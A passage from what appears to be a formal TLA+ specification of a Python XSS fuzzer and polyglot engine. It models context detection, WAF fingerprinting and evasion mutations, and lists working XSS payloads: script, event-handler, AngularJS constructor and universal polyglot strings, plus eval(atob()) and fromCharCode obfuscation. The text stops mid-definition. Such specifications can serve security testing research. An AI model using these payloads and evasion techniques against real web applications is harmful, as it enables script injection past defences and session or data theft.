            Chars("url(\"javascript:alert(1)\")"),
            Chars("}body{background:url(\"javascript:alert(1)\")") >>
    [] context_type = "url_query" ->
         << Chars("javascript:alert(1)"),
            Chars("\"><script>alert(1)</script>"),
            Chars("';alert(1);//") >>
    [] OTHER -> << Chars("<script>alert(1)</script>") >>

\* _is_payload_allowed
is_payload_allowed(payload, context) ==
  IF context.blocked_chars # {}
    THEN ~ \E char \in context.blocked_chars : char \in Range(payload)
  ELSE IF context.allowed_chars # {}
    THEN \A i \in DOMAIN payload : payload[i] \in context.allowed_chars
  ELSE TRUE

\* _generate_context_variants
generate_context_variants(payload, context) ==
  LET breakers == context_breakers(context.context_type)
      broken == Flatten([k \in DOMAIN breakers |->
                           << breakers[k] \o payload,
                              payload \o breakers[k],
                              breakers[k] \o payload \o breakers[k] >>])
      plain == <<payload>> \o broken
      head5 == Prefix(plain, 5)
      variants == IF context.encoding_required # "None"
                     /\ context.encoding_required \in encoder_names
                    THEN plain \o [k \in DOMAIN head5 |->
                                     encoders(context.encoding_required, head5[k])]
                    ELSE plain
  IN SelectSeq(variants, LAMBDA v : is_payload_allowed(v, context))

\* The random draws of the mutation operators.  Every draw of the source is
\* independent, so a tape that fixes each draw by the position it is made at
\* describes one possible outcome of the random module:
\*   upper_every   random.choice([c.upper(), c.lower()]) picks the upper-case
\*                 letter at the positions divisible by it (0: never)
\*   sample        random.sample(whitespace_chars, 2)
\*   escape_every  random.random() > 0.7 at the positions divisible by it
RandomTapes ==
  { [upper_every |-> 0, sample |-> <<" ", "\t">>, escape_every |-> 0],
    [upper_every |-> 1, sample |-> <<"\n", VT>>, escape_every |-> 2],
    [upper_every |-> 2, sample |-> <<"\f", " ">>, escape_every |-> 1] }
DrawnAt(every, i) == every > 0 /\ i % every = 0

\* re.sub(r'<([a-zA-Z]+)', randomize_tag_case, payload): the letters that
\* follow a '<' without interruption are re-cased, one draw per letter
randomize_tag_case(p, tape) ==
  [i \in DOMAIN p |->
     IF /\ p[i] \in AlphaChars
        /\ \E k \in 1..(i - 1) : p[k] = "<" /\ \A j \in (k + 1)..i : p[j] \in AlphaChars
       THEN (IF DrawnAt(tape.upper_every, i) THEN upper_char(p[i]) ELSE lower_char(p[i]))
       ELSE p[i]]

\* _mutate_case
mutate_case(payload, context, tape) ==
  IF context.context_type \in JS_STRING_CONTEXTS THEN payload
  ELSE IF "<" \in Range(payload) THEN randomize_tag_case(payload, tape)
  ELSE payload

\* _mutate_encoding
mutate_encoding(payload, context, tape) ==
  IF context.context_type = "url_query" THEN quote(payload, {})
  ELSE IF context.context_type \in HTML_CONTEXTS
    THEN LET e1 == Replace(payload, Chars("<"), Chars("&#60;"))
             e2 == Replace(e1, Chars(">"), Chars("&#62;"))
             e3 == Replace(e2, Chars("\""), Chars("&#34;"))
             e4 == Replace(e3, Chars("'"), Chars("&#39;"))
         IN Replace(e4, Chars("&"), Chars("&#38;"))
  ELSE payload

\* one round of the loop of _mutate_whitespace
around_tags(p, ws) == Replace(Replace(p, Chars("<"), <<ws, "<">>), Chars(">"), <<">", ws>>)
\* _mutate_whitespace
mutate_whitespace(payload, context, tape) ==
  IF context.context_type = "html_tag_content"
    THEN around_tags(around_tags(payload, tape.sample[1]), tape.sample[2])
  ELSE payload

\* _mutate_comments
mutate_comments(payload, context, tape) ==
  IF context.context_type = "html_tag_content"
    THEN (IF Contains(payload, Chars("<script>"))
            THEN Replace(payload, Chars("<script>"), Chars("<scr<!-- -->ipt>"))
            ELSE payload)
  ELSE IF context.context_type \in JS_STRING_CONTEXTS THEN payload \o Chars("/*comment*/")
  ELSE payload

\* _mutate_unicode
mutate_unicode(payload, context, tape) ==
  IF context.context_type \in JS_STRING_CONTEXTS
    THEN Flatten([i \in 1..Len(payload) |->
                    IF DrawnAt(tape.escape_every, i)
                      THEN Chars("\\u") \o Hex4(Ord(payload[i]))
                      ELSE <<payload[i]>>])
  ELSE payload

\* _mutate_double_encode
mutate_double_encode(payload, context, tape) ==
  IF context.context_type = "url_query" THEN quote(quote(payload, {"/"}), {"/"})
  ELSE IF context.context_type \in HTML_CONTEXTS THEN html_escape(html_escape(payload))
  ELSE payload

\* _mutate_concatenation
mutate_concatenation(payload, context, tape) ==
  IF Contains(payload, Chars("alert"))
    THEN (IF context.context_type \in JS_STRING_CONTEXTS
            THEN Replace(payload, Chars("alert"), Chars("al+ert"))
          ELSE IF context.context_type = "html_tag_content"
            THEN Replace(payload, Chars("alert"), Chars("al&#101;rt"))
          ELSE payload)
  ELSE payload

\* self.mutations, in order; a mutation that raises (urllib.parse.quote on a
\* str with a lone surrogate) is skipped by _apply_mutations
mutation_raises(k, payload, context) ==
  k \in {2, 6} /\ context.context_type = "url_query" /\ QuoteRaises(payload)
mutations(k, payload, context, tape) ==
  CASE k = 1 -> mutate_case(payload, context, tape)
    [] k = 2 -> mutate_encoding(payload, context, tape)
    [] k = 3 -> mutate_whitespace(payload, context, tape)
    [] k = 4 -> mutate_comments(payload, context, tape)
    [] k = 5 -> mutate_unicode(payload, context, tape)
    [] k = 6 -> mutate_double_encode(payload, context, tape)
    [] k = 7 -> mutate_concatenation(payload, context, tape)

\* _apply_mutations
apply_mutations(payload, context, tape) ==
  Flatten([k \in 1..7 |->
             IF mutation_raises(k, payload, context) THEN <<>>
             ELSE LET mutated_payload == mutations(k, payload, context, tape)
                  IN IF mutated_payload # <<>> /\ mutated_payload # payload
                       THEN <<mutated_payload>> ELSE <<>>])

\* duplicates removed by keeping the last occurrence of each payload
unique_payloads_last(adapted_payloads) ==
  Flatten([i \in DOMAIN adapted_payloads |->
             IF \E j \in (i + 1)..Len(adapted_payloads) :
                  adapted_payloads[j] = adapted_payloads[i]
               THEN <<>> ELSE <<adapted_payloads[i]>>])

\* "remove duplicates while preserving order": a payload is kept unless an
\* earlier position holds the same string (it is then in `seen`)
unique_payloads(adapted_payloads) ==
  Flatten([i \in DOMAIN adapted_payloads |->
             IF \E j \in 1..(i - 1) : adapted_payloads[j] = adapted_payloads[i]
               THEN <<>> ELSE <<adapted_payloads[i]>>])

\* what generate_payloads collects before it removes the duplicates
adapted_payloads_of(context, base_payloads, tape) ==
  Flatten([b \in DOMAIN base_payloads |->
             LET variants == generate_context_variants(base_payloads[b], context)
                 head5 == Prefix(variants, 5)
             IN variants \o Flatten([v \in DOMAIN head5 |->
                                       apply_mutations(head5[v], context, tape)])])

\* generate_payloads(context) with base_payloads=None
generate_payloads(context, tape) ==
  unique_payloads(adapted_payloads_of(context, get_default_payloads(context.context_type),
                                      tape))

\* _detect_waf: [detected, type]
detect_waf(response) ==
  LET response_lower == lower(response)
      hits == SelectSeq(fuzzer_waf_signatures,
                        LAMBDA w : \E s \in DOMAIN w.signatures :
                                     Contains(response_lower, lower(w.signatures[s])))
      waf_indicators == <<Chars("blocked"), Chars("forbidden"), Chars("not acceptable"),
                          Chars("security policy"), Chars("access denied"),
                          Chars("suspicious")>>
  IN IF hits # <<>> THEN <<TRUE, hits[1].name>>
     ELSE IF ContainsAny(response_lower, waf_indicators) THEN <<TRUE, "Generic">>
     ELSE <<FALSE, "None">>

\* _detect_waf_block
detect_waf_block(response) ==
  ContainsAny(lower(response),
              <<Chars("blocked"), Chars("forbidden"), Chars("403"), Chars("406"),
                Chars("security"), Chars("firewall"), Chars("denied")>>)

\* _analyze_fuzzing_result
success_indicators ==
  <<Chars("alert"), Chars("confirm"), Chars("prompt"),
    Chars("onerror"), Chars("onload"), Chars("onclick"),
    Chars("<script"), Chars("<img"), Chars("<svg")>>
analyze_fuzzing_result(payload, response, context) ==
  LET success == ContainsAny(lower(response), success_indicators)
      confidence == (IF Contains(response, payload) THEN Scale \div 2 ELSE 0)
                    + (IF success THEN (3 * Scale) \div 10 ELSE 0)
                    + (IF ~ detect_waf_block(response) THEN Scale \div 5 ELSE 0)
      waf == detect_waf(response)
  IN [payload |-> payload,
      context |-> context.context_type,
      success |-> success,
      confidence |-> Min(Scale, confidence),
      mutations_applied |-> <<>>,
      encoding_used |-> "none",
      response_indicators |-> [payload_reflected |-> Contains(response, payload),
                               length |-> Len(response),
                               status_code |-> 200],
      waf_detected |-> waf[1],
      waf_type |-> waf[2]]

\* dict[key] = value
DictSet(dict, key, value) ==
  [k \in DOMAIN dict \cup {key} |-> IF k = key THEN value ELSE dict[k]]

\* _learn_from_result that keeps only the latest successful payload of a context
learn_from_result_latest(learned, result, context) ==
  [successful_payloads |->
     IF result.success
       THEN DictSet(learned.successful_payloads, context.context_type, <<result.payload>>)
       ELSE learned.successful_payloads,
   blocked_patterns |->
     IF result.waf_detected
       THEN learned.blocked_patterns \cup {result.payload}
       ELSE learned.blocked_patterns]

\* _learn_from_result on the learned state of one fuzzer
learn_from_result(learned, result, context) ==
  LET context_key == context.context_type
      known == IF result.success /\ context_key \notin DOMAIN learned.successful_payloads
                 THEN DictSet(learned.successful_payloads, context_key, <<>>)
                 ELSE learned.successful_payloads
  IN [successful_payloads |->
        IF result.success
          THEN DictSet(known, context_key, Append(known[context_key], result.payload))
          ELSE known,
      blocked_patterns |->
        IF result.waf_detected
          THEN learned.blocked_patterns \cup {result.payload}
          ELSE learned.blocked_patterns]

\* The regular expressions of self.context_patterns, as sequences of atoms.
\* A class atom consumes characters that are in `chars` (or, with `neg`, are
\* not): exactly one (One), one or more greedily (Plus), any number greedily
\* (Star) or any number lazily, as capture group `group` (Lazy).  Marker is
\* {INJECTION}, replaced by re.escape(marker); AmpOrEnd is (?:&|$).
One(chars) ==
  [kind |-> "class", chars |-> chars, neg |-> FALSE, min |-> 1, more |-> FALSE,
   lazy |-> FALSE, group |-> 0]
Plus(chars, neg) ==
  [kind |-> "class", chars |-> chars, neg |-> neg, min |-> 1, more |-> TRUE,
   lazy |-> FALSE, group |-> 0]
Star(chars, neg) ==
  [kind |-> "class", chars |-> chars, neg |-> neg, min |-> 0, more |-> TRUE,
   lazy |-> FALSE, group |-> 0]
Lazy(chars, group) ==
  [kind |-> "class", chars |-> chars, neg |-> TRUE, min |-> 0, more |-> TRUE,
   lazy |-> TRUE, group |-> group]
Marker ==
  [kind |-> "marker", chars |-> {}, neg |-> FALSE, min |-> 0, more |-> FALSE,
   lazy |-> FALSE, group |-> 0]
AmpOrEnd ==
  [kind |-> "amp_or_end", chars |-> {}, neg |-> FALSE, min |-> 0, more |-> FALSE,
   lazy |-> FALSE, group |-> 0]

\* self.context_patterns, in dict order, the patterns of a context in list order
context_patterns ==
  << [context_type |-> "html_tag_content",
      pattern |-> <<One({"<"}), Plus({">"}, TRUE), One({">"}), Lazy({"<"}, 1), Marker,
                    Lazy({"<"}, 2), One({"<"}), One({"/"}), Plus({">"}, TRUE), One({">"})>>],
     [context_type |-> "html_tag_content",
      pattern |-> <<One({">"}), Lazy({"<"}, 1), Marker, Lazy({"<"}, 2), One({"<"})>>],
     [context_type |-> "html_attribute_value",
      pattern |-> <<One({"<"}), Plus({">"}, TRUE), Plus(SpaceChars, FALSE),
                    Plus(WordChars, FALSE), One({"="}), One(QuoteChars), Lazy(QuoteChars, 1),
                    Marker, Lazy(QuoteChars, 2), One(QuoteChars), Star({">"}, TRUE),
                    One({">"})>>],
     [context_type |-> "html_attribute_value",
      pattern |-> <<One({"<"}), Plus({">"}, TRUE), Plus(SpaceChars, FALSE),
                    Plus(WordChars, FALSE), One({"="}), Lazy(SpaceChars \cup {">"}, 1), Marker,
                    Lazy(SpaceChars \cup {">"}, 2), One(SpaceChars \cup {">"})>>],
     [context_type |-> "js_string_single",
      pattern |-> <<One({"'"}), Lazy({"'"}, 1), Marker, Lazy({"'"}, 2), One({"'"})>>],
     [context_type |-> "js_string_double",
      pattern |-> <<One({"\""}), Lazy({"\""}, 1), Marker, Lazy({"\""}, 2), One({"\""})>>],
     [context_type |-> "js_template",
      pattern |-> <<One({BACKTICK}), Lazy({BACKTICK}, 1), Marker, Lazy({BACKTICK}, 2),
                    One({BACKTICK})>>],
     [context_type |-> "css_property_value",
      pattern |-> <<One({":"}), Star(SpaceChars, FALSE), Lazy(SpaceChars \cup {";", "}"}, 1),
                    Marker, Lazy(SpaceChars \cup {";", "}"}, 2), One({";", "}"})>>],
     [context_type |-> "url_query",
      pattern |-> <<One({"?", "&"}), Plus(WordChars, FALSE), One({"="}), Lazy({"&"}, 1), Marker,
                    Lazy({"&"}, 2), AmpOrEnd>>],
     [context_type |-> "json_value",
      pattern |-> <<One({":"}), Star(SpaceChars, FALSE), One({"\""}), Lazy({"\""}, 1), Marker,
                    Lazy({"\""}, 2), One({"\""})>> ] >>

\* the characters from pos on that a class atom can consume at most
RunLength(atom, s, pos) ==
  LET stops == {k \in pos..Len(s) : (s[k] \in atom.chars) = atom.neg}
  IN IF ~atom.more THEN (IF pos <= Len(s) /\ pos \notin stops THEN 1 ELSE 0)
     ELSE IF stops = {} THEN Len(s) - pos + 1
     ELSE (CHOOSE k \in stops : \A j \in stops : k <= j) - pos

\* The backtracking match of atoms a.. of a pattern at pos: the first way, in
\* the order the regex engine tries them (greedy: longest first, lazy:
\* shortest first), in which the rest of the pattern matches too; `taken` is
\* the number of characters each atom consumed.
RECURSIVE MatchFrom(_, _, _, _, _)
MatchFrom(pattern, a, s, pos, marker) ==
  IF a > Len(pattern) THEN [ok |-> TRUE, taken |-> <<>>]
  ELSE LET atom == pattern[a]
           counts ==
             CASE atom.kind = "marker" ->
                    IF HasAt(s, marker, pos) THEN {Len(marker)} ELSE {}
               [] atom.kind = "amp_or_end" ->
                    (IF pos <= Len(s) /\ s[pos] = "&" THEN {1} ELSE {})
                      \cup (IF pos = Len(s) + 1 \/ (pos = Len(s) /\ s[pos] = "\n")
                              THEN {0} ELSE {})
               [] OTHER -> atom.min..RunLength(atom, s, pos)
           rests == {[n |-> n, rest |-> MatchFrom(pattern, a + 1, s, pos + n, marker)] :
                       n \in counts}
           matching == {r \in rests : r.rest.ok}
           first(found) ==
             [ok |-> TRUE,
              taken |-> <<(CHOOSE r \in found :
                             \A q \in found : IF atom.lazy \/ atom.kind = "amp_or_end"
                                                THEN r.n <= q.n ELSE r.n >= q.n).n>>
                        \o (CHOOSE r \in found :
                              \A q \in found : IF atom.lazy \/ atom.kind = "amp_or_end"
                                                 THEN r.n <= q.n ELSE r.n >= q.n).rest.taken]
       IN IF matching = {} THEN [ok |-> FALSE, taken |-> <<>>] ELSE first(matching)

\* re.search(pattern_with_marker, context_window): the match at the leftmost
\* start, with match.group(1) and match.group(2)
Search(pattern, s, marker) ==
  LET starts == {i \in 1..Len(s) : s[i] \in pattern[1].chars
                                    /\ MatchFrom(pattern, 1, s, i, marker).ok}
      groups(start, taken) ==
        [k \in 1..2 |->
           LET g == CHOOSE a \in DOMAIN pattern : pattern[a].group = k
           IN SubSeq(s, start + SumSeq(SubSeq(taken, 1, g - 1)),
                     start + SumSeq(SubSeq(taken, 1, g)) - 1)]
      at(start) == groups(start, MatchFrom(pattern, 1, s, start, marker).taken)
      matched(prefix_suffix) ==
        [ok |-> TRUE, prefix |-> prefix_suffix[1], suffix |-> prefix_suffix[2]]
  IN IF starts = {} THEN [ok |-> FALSE, prefix |-> <<>>, suffix |-> <<>>]
     ELSE matched(at(CHOOSE i \in starts : \A j \in starts : i <= j))

\* string.printable
Printable == Range(AsciiPrintable) \cup {"\t", "\n", "\r", VT, "\f"}

\* _find_marker_positions: the positions (from 0) the marker stands at
find_marker_positions(response, marker) ==
  LET found == {i \in 1..Len(response) : HasAt(response, marker, i)}
  IN [k \in 1..Cardinality(found) |->
        (CHOOSE i \in found : Cardinality({j \in found : j < i}) = k - 1) - 1]

\* _detect_filters
detect_filters(response, marker) ==
  (IF Contains(response, lower(marker)) /\ ~Contains(response, marker)
     THEN <<"lowercase_filter">> ELSE <<>>)
  \o (IF Contains(response, html_escape(marker)) /\ ~Contains(response, marker)
        THEN <<"html_encoding">> ELSE <<>>)
  \o (IF Contains(response, quote(marker, {"/"})) /\ ~Contains(response, marker)
        THEN <<"url_encoding">> ELSE <<>>)
  \o (IF "<" \notin Range(response) /\ "<" \in Range(marker)
        THEN <<"tag_stripping">> ELSE <<>>)

\* _detect_encoding; "None" is Python's None
detect_encoding(response, marker) ==
  IF Contains(response, html_escape(marker)) /\ ~Contains(response, marker) THEN "html"
  ELSE IF Contains(response, quote(marker, {"/"})) /\ ~Contains(response, marker) THEN "url"
  ELSE "None"

\* _analyze_context_at_position: the fingerprint of the first pattern, in
\* table order, that re.search finds in the window around the position, or
\* None (found FALSE)
NoFingerprint ==
  [context_type |-> "html_tag_content", prefix |-> <<>>, suffix |-> <<>>,
   filters_detected |-> <<>>, allowed_chars |-> {}, blocked_chars |-> {},
   max_length |-> "None", encoding_required |-> "None"]
analyze_context_at_position(response, position, marker) ==
  LET window_size == 100
      start == Max(0, position - window_size)
      end == Min(Len(response), position + Len(marker) + window_size)
      searched(context_window) ==
        [k \in DOMAIN context_patterns |->
           Search(context_patterns[k].pattern, context_window, marker)]
      fingerprint(matches, k) ==
        [context_type |-> context_patterns[k].context_type,
         prefix |-> matches[k].prefix,
         suffix |-> matches[k].suffix,
         filters_detected |-> detect_filters(response, marker),
         allowed_chars |-> Printable,
         blocked_chars |-> {},
         max_length |-> "None",
         encoding_required |-> detect_encoding(response, marker)]
      first(matches) ==
        IF \E k \in DOMAIN matches : matches[k].ok
          THEN [found |-> TRUE,
                fingerprint |->
                  fingerprint(matches, CHOOSE k \in DOMAIN matches :
                                         /\ matches[k].ok
                                         /\ \A j \in 1..(k - 1) : ~matches[j].ok)]
          ELSE [found |-> FALSE, fingerprint |-> NoFingerprint]
  IN first(searched(SubSeq(response, start + 1, end)))

select_best_context_last(contexts) == contexts[Len(contexts)]
\* _select_best_context
select_best_context(contexts) == contexts[1]

\* detect_context
detect_context(response, marker) ==
  LET analysed(marker_positions) ==
        [k \in DOMAIN marker_positions |->
           analyze_context_at_position(response, marker_positions[k], marker)]
      returned(marker_positions, contexts) ==
        IF marker_positions = <<>> THEN NoFingerprint
        ELSE IF contexts # <<>> THEN select_best_context(contexts)
        ELSE [NoFingerprint EXCEPT !.allowed_chars = Printable]
      fingerprints(ctxs) ==
        [k \in 1..Len(ctxs) |-> ctxs[k].fingerprint]
      detected(marker_positions) ==
        returned(marker_positions,
                 fingerprints(SelectSeq(analysed(marker_positions), LAMBDA ctx : ctx.found)))
  IN detected(find_marker_positions(response, marker))

(***************************************************************************)
(* polyglot/advanced_engine.py: AdvancedPolyglotEngine                     *)
(***************************************************************************)
\* _initialize_base_components; every component is encoding_safe and quote_safe
base_components ==
  << [content |-> Chars("<script>alert(1)</script>"), contexts |-> {"html_content"},
      priority |-> 10, comment_safe |-> TRUE],
     [content |-> Chars("<img src=x onerror=alert(1)>"),
      contexts |-> {"html_content", "html_attribute_unq"}, priority |-> 9, comment_safe |-> TRUE],
     [content |-> Chars("<svg onload=alert(1)>"), contexts |-> {"html_content"},
      priority |-> 8, comment_safe |-> TRUE],
     [content |-> Chars("\" onmouseover=alert(1) \""), contexts |-> {"html_attribute"},
      priority |-> 8, comment_safe |-> TRUE],
     [content |-> Chars("' onclick=alert(1) '"), contexts |-> {"html_attribute"},
      priority |-> 8, comment_safe |-> TRUE],
     [content |-> Chars("';alert(1);//"), contexts |-> {"js_string_single"},
      priority |-> 9, comment_safe |-> TRUE],
     [content |-> Chars("\";alert(1);//"), contexts |-> {"js_string_double"},
      priority |-> 9, comment_safe |-> TRUE],
     [content |-> <<BACKTICK>> \o Chars(");alert(1);//"), contexts |-> {"js_template"},
      priority |-> 7, comment_safe |-> TRUE],
     [content |-> Chars("javascript:alert(1)"), contexts |-> {"url_parameter", "url_path"},
      priority |-> 7, comment_safe |-> TRUE],
     [content |-> Chars("expression(alert(1))"), contexts |-> {"css_property"},
      priority |-> 6, comment_safe |-> FALSE],
     [content |-> Chars("}body{background:url(\"javascript:alert(1)\")"),
      contexts |-> {"css_property"}, priority |-> 6, comment_safe |-> TRUE],
     [content |-> Chars("</script><img src=x onerror=alert(1)>"),
      contexts |-> {"js_string_single", "js_string_double", "html_content"},
      priority |-> 8, comment_safe |-> TRUE],
     [content |-> Chars("--></script><svg onload=alert(1)><!--"),
      contexts |-> {"html_content", "css_comment", "js_comment"},
      priority |-> 7, comment_safe |-> TRUE],
     [content |-> Chars("<details open ontoggle=alert(1)>"), contexts |-> {"html_content"},
      priority |-> 7, comment_safe |-> TRUE],
     [content |-> Chars("<video><source onerror=\"alert(1)\">"), contexts |-> {"html_content"},
      priority |-> 6, comment_safe |-> TRUE],
     [content |-> Chars("<audio src=x onerror=alert(1)>"), contexts |-> {"html_content"},
      priority |-> 6, comment_safe |-> TRUE],
     [content |-> Chars("<input autofocus onfocus=alert(1)>"), contexts |-> {"html_content"},
      priority |-> 6, comment_safe |-> TRUE],
     [content |-> Chars("<select onfocus=alert(1) autofocus>"), contexts |-> {"html_content"},
      priority |-> 5, comment_safe |-> TRUE],
     [content |-> Chars("{{constructor.constructor(\"alert(1)\")()}}"),
      contexts |-> {"html_content", "html_attribute"}, priority |-> 6, comment_safe |-> TRUE],
     [content |-> Chars("{{$root.constructor.constructor(\"alert(1)\")()}}"),
      contexts |-> {"html_content", "html_attribute"}, priority |-> 5, comment_safe |-> TRUE] >>

\* self.encoding_chains, self.obfuscation_chains, self.waf_signatures
encoding_chains ==
  << <<"html_entities", "url_encoding">>, <<"unicode_encoding", "url_encoding">>,
     <<"double_url_encoding">>, <<"base64_encoding", "url_encoding">>,
     <<"decimal_encoding", "hex_encoding">>, <<"mixed_case", "comment_breaking">> >>
obfuscation_chains ==
  << <<"string_concat", "bracket_notation">>, <<"fromcharcode", "eval_decode">>,
     <<"template_literals", "math_ops">>, <<"constructor_chain", "property_access">>,
     <<"regex_abuse", "whitespace_var">> >>
engine_waf_signatures ==
  << Chars("<script"), Chars("script>"), Chars("</script>"),
     Chars("javascript:"), Chars("vbscript:"), Chars("data:"),
     Chars("onload"), Chars("onerror"), Chars("onclick"), Chars("onmouseover"),
     Chars("alert"), Chars("confirm"), Chars("prompt"), Chars("eval"),
     Chars("expression"), Chars("behavior"), Chars("binding") >>

\* The random draws of the engine, fixed by the position they are made at:
\*   universal_every, pattern  _combine_components prepends universal pattern
\*                             `pattern` to the combinations whose number is
\*                             divisible by universal_every (0: to none)
\*   separator                 random.choice(separators)
\*   upper_every               MIXED_CASE takes the upper-case letter there
\*   space_every, space        WHITESPACE_VARIATION replaces the space there
EngineTapes ==
  { [universal_every |-> 0, pattern |-> 1, separator |-> <<>>, upper_every |-> 0,
     space_every |-> 0, space |-> " "],
    [universal_every |-> 1, pattern |-> 1, separator |-> Chars("<!--"), upper_every |-> 1,
     space_every |-> 1, space |-> "\t"],
    [universal_every |-> 2, pattern |-> 3, separator |-> Chars("//"), upper_every |-> 2,
     space_every |-> 2, space |-> VT] }

universal_patterns ==
  << Chars("jaVasCript:/*-/*") \o <<BACKTICK>> \o Chars("/*\\") \o <<BACKTICK>>
       \o Chars("/*'/*\"/**/(/* */oNcliCk=alert() )//"),
     Chars("\"-alert(1)-\""),
     Chars("'\"--></style></script><svg onload=alert()>") >>

\* _combine_components; `draw` numbers the call among those of one generation
combine_components(components, tape, draw) ==
  IF Len(components) = 1 THEN components[1].content
  ELSE LET sorted_components ==
             SortedDesc(components, [k \in DOMAIN components |-> components[k].priority])
           combined ==
             Flatten([i \in DOMAIN sorted_components |->
                        IF i = 1 THEN sorted_components[i].content
                        ELSE IF sorted_components[i].comment_safe
                          THEN Chars("/*") \o sorted_components[i].content \o Chars("*/")
                        ELSE tape.separator \o sorted_components[i].content])
       IN IF DrawnAt(tape.universal_every, draw) /\ Len(combined) < 300
            THEN universal_patterns[tape.pattern] \o combined
            ELSE combined

\* itertools.combinations_with_replacement(range(1, n + 1), num) for num <= 3
combinations_with_replacement(n, num) ==
  CASE num = 1 -> [i \in 1..n |-> <<i>>]
    [] num = 2 -> Flatten([i \in 1..n |-> [d \in 1..(n - i + 1) |-> <<i, i + d - 1>>]])
    [] num = 3 -> Flatten([i \in 1..n |->
                    Flatten([d \in 1..(n - i + 1) |->
                               [e \in 1..(n - i - d + 2) |->
                                  <<i, i + d - 1, i + d + e - 2>>]])])

\* itertools.combinations(range(1, n + 1), num) for num <= 3
combinations(n, num) ==
  CASE num = 1 -> [i \in 1..n |-> <<i>>]
    [] num = 2 -> Flatten([i \in 1..n |-> [d \in 1..(n - i) |-> <<i, i + d>>]])
    [] num = 3 -> Flatten([i \in 1..n |->
                    Flatten([d \in 1..(n - i) |->
                               [e \in 1..(n - i - d) |-> <<i, i + d, i + d + e>>]])])

\* a PolyglotPayload before it is scored
NewPolyglot(payload, contexts, encodings_used, obfuscations_used, components) ==
  [payload |-> payload, contexts |-> contexts, confidence |-> 0, length |-> Len(payload),
   complexity_score |-> 0, encodings_used |-> encodings_used,
   obfuscations_used |-> obfuscations_used, components |-> components,
   browser_compatibility |-> <<>>, waf_evasion_score |-> 0]

\* _generate_basic_polyglots
generate_basic_polyglots(target_contexts, max_length, tape) ==
  LET sorted(unsorted) ==
        SortedDesc(unsorted,
                   [k \in DOMAIN unsorted |->
                      unsorted[k].priority * 100
                        + Cardinality(unsorted[k].contexts \cap target_contexts)])
      combos(suitable_components) ==
        Flatten([num \in 1..(Min(4, Len(suitable_components) + 1) - 1) |->
                   combinations(Min(8, Len(suitable_components)), num)])
      kept(component_combo, combined_payload) ==
        IF Len(combined_payload) <= max_length
          THEN <<NewPolyglot(combined_payload,
                             UNION {component_combo[k].contexts :
                                      k \in DOMAIN component_combo},
                             <<>>, <<>>, component_combo)>>
          ELSE <<>>
      combined(component_combo, c) ==
        kept(component_combo, combine_components(component_combo, tape, c))
      each(top, top_combos) ==
        Flatten([c \in DOMAIN top_combos |->
                   combined([k \in DOMAIN top_combos[c] |-> top[top_combos[c][k]]], c)])
      basic(suitable_components) ==
        each(Prefix(suitable_components, 8), combos(suitable_components))
  IN basic(sorted(SelectSeq(base_components,
                            LAMBDA c : c.contexts \cap target_contexts # {})))

\* _apply_encoding; NONE and OCTAL_ENCODING have no branch
apply_encoding(content, encoding, tape) ==
  LET critical == {"<", ">", "\"", "'", "&"}
      each(f) == Flatten([i \in DOMAIN content |->
                            IF content[i] \in critical THEN f[content[i]] ELSE <<content[i]>>])
      broken(c, keyword) ==
        IF Contains(lower(c), keyword)
          THEN ReplaceIn(c, lower(c), keyword,
                         SubSeq(keyword, 1, Len(keyword) \div 2) \o Chars("<!---->")
                           \o SubSeq(keyword, (Len(keyword) \div 2) + 1, Len(keyword)))
          ELSE c
  IN CASE encoding = "html_entities" ->
            Replace(Replace(Replace(Replace(Replace(content,
              Chars("<"), Chars("&lt;")), Chars(">"), Chars("&gt;")),
              Chars("\""), Chars("&quot;")), Chars("'"), Chars("&#x27;")),
              Chars("&"), Chars("&amp;"))
       [] encoding = "url_encoding" -> quote(content, {})
       [] encoding = "double_url_encoding" -> quote(quote(content, {}), {})
       [] encoding = "unicode_encoding" ->
            Flatten([i \in DOMAIN content |->
                       IF Ord(content[i]) > 127 \/ content[i] \in critical
                         THEN Chars("\\u") \o Hex4(Ord(content[i])) ELSE <<content[i]>>])
       [] encoding = "hex_encoding" ->
            each([c \in critical |-> Chars("\\x") \o Hex2(Ord(c), HexLower)])
       [] encoding = "base64_encoding" ->
            Chars("eval(atob('") \o b64encode(content) \o Chars("'))")
       [] encoding = "decimal_encoding" ->
            each([c \in critical |-> Chars("&#") \o Decimal(Ord(c)) \o Chars(";")])
       [] encoding = "mixed_case" ->
            [i \in DOMAIN content |->
               IF content[i] \in AlphaChars
                 THEN (IF DrawnAt(tape.upper_every, i) THEN upper_char(content[i])
                       ELSE lower_char(content[i]))
                 ELSE content[i]]
       [] encoding = "comment_breaking" ->
            broken(broken(broken(broken(content, Chars("script")), Chars("alert")),
                          Chars("javascript")), Chars("eval"))
       [] OTHER -> content

\* re.sub(obj + r'\.(\w+)', obj + r"['\1']", content): a match starts where
\* obj, a dot and a word character stand, outside the word an earlier match took
RECURSIVE BracketMatchAt(_, _, _)
BracketMatchAt(s, obj, i) ==
  /\ HasAt(s, obj \o <<".">>, i)
  /\ i + Len(obj) + 1 <= Len(s)
  /\ s[i + Len(obj) + 1] \in WordChars
  /\ ~ \E j \in 1..(i - 1) :
         /\ BracketMatchAt(s, obj, j)
         /\ \A k \in (j + Len(obj) + 1)..i : s[k] \in WordChars
bracket_notation(s, obj) ==
  LET starts == {i \in DOMAIN s : BracketMatchAt(s, obj, i)}
      taken(p) == \E i \in starts : /\ i + Len(obj) < p
                                    /\ \A k \in (i + Len(obj) + 1)..p : s[k] \in WordChars
  IN Flatten([p \in DOMAIN s |->
                IF p - Len(obj) \in starts THEN Chars("['")
                ELSE IF taken(p) /\ (p = Len(s) \/ s[p + 1] \notin WordChars)
                  THEN <<s[p]>> \o Chars("']")
                ELSE <<s[p]>>])

\* _apply_obfuscation; PROPERTY_ACCESS and REGEX_ABUSE have no branch
apply_obfuscation(content, obfuscation, tape) ==
  LET alert == Chars("alert")
      replaced(c, old, new) == IF Contains(c, old) THEN Replace(c, old, new) ELSE c
  IN CASE obfuscation = "string_concat" ->
            replaced(replaced(content, alert, Chars("'ale'+'rt'")),
                     Chars("script"), Chars("'scr'+'ipt'"))
       [] obfuscation = "fromcharcode" ->
            replaced(content, alert, Chars("String.fromCharCode(97,108,101,114,116)"))
       [] obfuscation = "eval_decode" ->
            IF Len(content) < 100
              THEN Chars("eval(atob(\"") \o b64encode(content) \o Chars("\"))")
              ELSE content
       [] obfuscation = "whitespace_var" ->
            [i \in DOMAIN content |->
               IF content[i] = " " /\ DrawnAt(tape.space_every, i) THEN tape.space
               ELSE content[i]]
       [] obfuscation = "bracket_notation" ->
            bracket_notation(bracket_notation(content, Chars("window")), Chars("document"))
       [] obfuscation = "template_literals" ->
